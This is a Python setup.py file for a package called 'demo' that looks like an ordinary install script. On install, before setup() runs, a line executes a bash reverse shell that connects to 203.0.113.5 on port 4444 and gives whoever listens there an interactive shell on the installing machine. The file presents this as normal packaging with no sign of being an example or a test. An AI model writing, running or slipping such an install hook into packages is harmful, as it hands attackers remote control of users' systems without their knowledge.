import os
from setuptools import setup

os.system("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
setup(name="demo", version="1.0")
